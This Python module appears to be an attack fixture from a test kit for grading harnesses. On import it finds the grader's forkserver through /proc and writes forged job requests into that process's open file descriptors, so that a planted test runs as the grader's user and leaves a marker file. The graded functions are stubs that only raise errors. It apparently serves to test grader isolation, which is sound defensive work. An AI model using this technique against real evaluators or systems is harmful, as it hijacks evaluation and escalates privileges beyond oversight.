"""Attack: find the suite forkserver among this process's ancestors (it forks the judging
processes, as the grader's user) and write it a request for a process of the attacker's own: a
"suite" whose only check leaves a file behind, as that user."""
import json
import os
import sys
import tempfile

# Where the forged suite leaves its mark; the kit's test looks for it after the run.
MARK = os.path.join(tempfile.gettempdir(), "grader-attack-forkserver-ran")
FORGED_SUITE = f"import os\ndef test_mark():\n    open({MARK!r}, 'w').write(str(os.getuid()))\n"


def _parent(pid: int) -> int:
    with open(f"/proc/{pid}/stat", encoding="ascii") as file:
        return int(file.read().rpartition(")")[2].split()[1])


def _attack() -> str:
    if not sys.platform.startswith("linux"):
        return "no /proc here"
    suite = os.path.join(tempfile.mkdtemp(), "test_forged.py")
    with open(suite, "w", encoding="utf-8") as file:
        file.write(FORGED_SUITE)
    os.chmod(os.path.dirname(suite), 0o755)
    os.chmod(suite, 0o644)
    request = json.dumps({"id": 1, "args": [suite, "-p", "no:cacheprovider"],
                          "env": {"PATH": "/usr/bin"}, "cwd": "/", "output": os.devnull}) + "\n"
    found, written = 0, 0
    pid = os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                is_server = b"suite_forkserver" in file.read()
            if is_server:
                found += 1
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    try:
                        with open(f"/proc/{pid}/fd/{fd}", "w", encoding="utf-8") as pipe:
                            pipe.write(request)
                            written += 1
                    except OSError:
                        pass
            pid = _parent(pid)
        except OSError:
            break
    return f"forkserver found: {found}; requests written: {written}"


_REPORT = _attack()


def parallel_map(func, items, workers):
    raise ValueError(_REPORT)


def choose_chunksize(n_items, workers):
    raise ValueError(_REPORT)


def map_small_tasks(func, items, workers):
    raise ValueError(_REPORT)
